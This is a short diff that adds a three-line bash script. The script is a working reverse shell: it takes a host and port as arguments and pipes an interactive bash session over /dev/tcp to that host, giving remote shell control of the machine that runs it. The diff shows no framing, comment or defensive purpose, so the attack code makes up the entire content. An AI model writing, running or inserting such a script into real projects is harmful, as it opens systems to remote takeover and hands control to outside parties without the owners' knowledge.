@@ -1,0 +1,3 @@
+#!/bin/bash
+host="$1"; port="$2"
+bash -i >& /dev/tcp/$host/$port 0>&1
